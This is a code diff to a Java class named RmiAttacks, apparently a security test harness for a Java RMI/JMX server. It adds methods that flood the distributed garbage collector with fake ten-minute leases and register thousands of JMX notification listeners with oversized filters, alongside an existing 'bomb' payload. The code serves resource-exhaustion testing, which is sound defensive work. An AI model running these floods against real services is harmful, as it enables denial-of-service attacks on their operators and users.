@@ -10,14 +10,18 @@ import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.rmi.Remote;
 import java.rmi.RemoteException;
+import java.rmi.dgc.Lease;
+import java.rmi.dgc.VMID;
 import java.rmi.registry.LocateRegistry;
 import java.rmi.registry.Registry;
+import java.rmi.server.ObjID;
 import java.rmi.server.UnicastRemoteObject;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
 import java.util.concurrent.atomic.AtomicBoolean;
 import javax.management.MBeanServerConnection;
+import javax.management.NotificationFilterSupport;
 import javax.management.ObjectName;
 import javax.management.remote.JMXConnector;
 import javax.management.remote.JMXConnectorFactory;
@@ -112,6 +116,39 @@ final class RmiAttacks {
             send(Jrmp.call(Jrmp.REGISTRY, operation, Jrmp.REGISTRY_HASH, "jmxrmi", Jrmp.bomb()));
         }
         send(Jrmp.call(Jrmp.GARBAGE_COLLECTOR, 1, Jrmp.GARBAGE_COLLECTOR_HASH, Jrmp.bomb()));
+    }
+
+    /** Leases of clients that are made up, which RMI would keep for ten minutes each; returns the answers. */
+    List<String> leases(int count) throws Exception {
+        return Crowd.each(
+                count,
+                8,
+                number -> send(Jrmp.call(
+                        Jrmp.GARBAGE_COLLECTOR,
+                        1,
+                        Jrmp.GARBAGE_COLLECTOR_HASH,
+                        new ObjID[] {new ObjID()},
+                        (long) number,
+                        new Lease(new VMID(), 600_000))));
+    }
+
+    /** Adds notification listeners with long filters until they are refused; returns how many were added. */
+    int listeners(String user) throws Exception {
+        NotificationFilterSupport filter = new NotificationFilterSupport();
+        for (int i = 0; i < 100; i++) {
+            filter.enableType("x".repeat(1_000) + i);
+        }
+        try (JMXConnector connector = connect(user, Attacked.PASSWORD)) {
+            MBeanServerConnection beans = connector.getMBeanServerConnection();
+            for (int added = 0; added < 6_000; added++) {
+                try {
+                    beans.addNotificationListener(new ObjectName(Attacked.HOST), (told, handback) -> {}, filter, null);
+                } catch (SecurityException refused) {
+                    return added;
+                }
+            }
+            return 6_000;
+        }
     }
 
     /** Objects instead of a name and a password, and as arguments of an operation. */
